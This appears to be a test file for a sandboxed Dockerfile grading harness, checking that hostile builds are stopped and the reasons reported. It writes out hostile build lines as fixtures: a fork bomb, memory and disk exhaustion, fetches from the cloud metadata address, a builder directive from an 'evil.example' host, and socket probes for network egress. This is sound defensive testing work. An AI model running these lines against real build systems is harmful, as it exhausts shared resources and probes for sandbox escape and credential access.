import { afterAll, expect, test } from "vitest";
import { gradeHostile } from "./bench.ts";
import { printMeasured } from "./measure.ts";

afterAll(printMeasured);

const from = "FROM python:3.13-slim";

test.each([
  [
    "a fork bomb",
    'RUN python -c "import os; [os.fork() for _ in iter(int, 1)]"',
    /more memory than its limit|1000 processes/,
  ],
  ["700 MB of memory", 'RUN python -c "x = bytearray(700 * 1024 * 1024)"', /more memory than its limit of 134 MB/],
  ["a file of 20 GB", "RUN dd if=/dev/zero of=/big bs=1M count=20000", /limit of 400 MB on the disk/],
  ["output without end", "RUN yes hostile", /limit of 32 MB of output/],
  ["an address to add", "ADD http://169.254.169.254/latest/meta-data/ /x", /package index and Debian's mirror only/],
])("a build with %s is stopped, and the reason says at what", async (_, line, why) => {
  const { reason, seconds } = await gradeHostile({ "app.py": "", Dockerfile: `${from}\n${line}\n` }, [
    "operations.builds",
  ]);
  expect(reason("operations.builds")).toMatch(/^failed/);
  expect(reason("operations.builds")).toMatch(why);
  expect(seconds).toBeLessThan(60);
});

test("a build that never ends is stopped at its limit", async () => {
  const files = { "app.py": "", Dockerfile: `${from}\nRUN sleep 9999\n` };
  const { reason, seconds } = await gradeHostile(files, ["operations.builds"], { buildSeconds: 4 });
  expect(reason("operations.builds")).toMatch(/^failed: .*4 s/);
  expect(seconds).toBeLessThan(30);
});

test("an index of the candidate's own choice is not reached, and the report shows which one was asked", async () => {
  const requirements = "--index-url https://packages.example/simple\nflask\n";
  const lines = `${from}\nCOPY requirements.txt .\nRUN pip install --no-cache-dir --retries 0 -r requirements.txt\n`;
  const files = { "app.py": "", "requirements.txt": requirements, Dockerfile: lines };
  const { card, reason, seconds } = await gradeHostile(files, ["operations.builds"]);
  expect(reason("operations.builds")).toMatch(/^failed: .*ERROR: Could not find a version that .* flask/);
  expect(JSON.stringify(card.checks)).toContain("Looking in indexes: https://packages.example/simple");
  expect(seconds).toBeLessThan(30);
});

test.each([
  ["a registry of the candidate's choice", "FROM 169.254.169.254/x"],
  ["another candidate's image", "FROM assay-submission:0000000000"],
])("%s is not built upon, which costs nobody a point", async (_, line) => {
  const { reason } = await gradeHostile({ "app.py": "", Dockerfile: `${line}\nRUN true\n` }, ["operations.builds"]);
  expect(reason("operations.builds")).toMatch(/^inconclusive/);
});

test("a build that finds no room on a disk is undecided: the disk may be this machine's", async () => {
  const lines = `${from}\nRUN dd if=/dev/zero of=/dev/shm/x bs=1M count=80\n`;
  const { reason } = await gradeHostile({ "app.py": "", Dockerfile: lines }, ["operations.builds"]);
  expect(reason("operations.builds")).toMatch(/^inconclusive: The build found no room on a disk: /);
});

test("whatever builder a Dockerfile asks for, its commands have no way out but the package index", async () => {
  // Written so that the command itself, which every report shows, is not what is looked for.
  const reach = (host: string, port: number): string =>
    `python -c "import socket; socket.create_connection(('${host}', ${port}), 2)" && echo REA''CHED ${host}`;
  const lines = [
    "# syntax=evil.example/frontend:1",
    from,
    `RUN --mount=type=cache,target=/root/.cache ${reach("172.17.0.1", 22)}; ${reach("169.254.169.254", 80)}; ${reach("1.1.1.1", 53)}; false`,
  ];
  const { card, reason } = await gradeHostile({ "app.py": "", Dockerfile: lines.join("\n") }, ["operations.builds"]);
  expect(reason("operations.builds")).toMatch(/^(failed|inconclusive)/);
  expect(JSON.stringify(card.checks)).not.toMatch(/\bREACHED \d/);
});
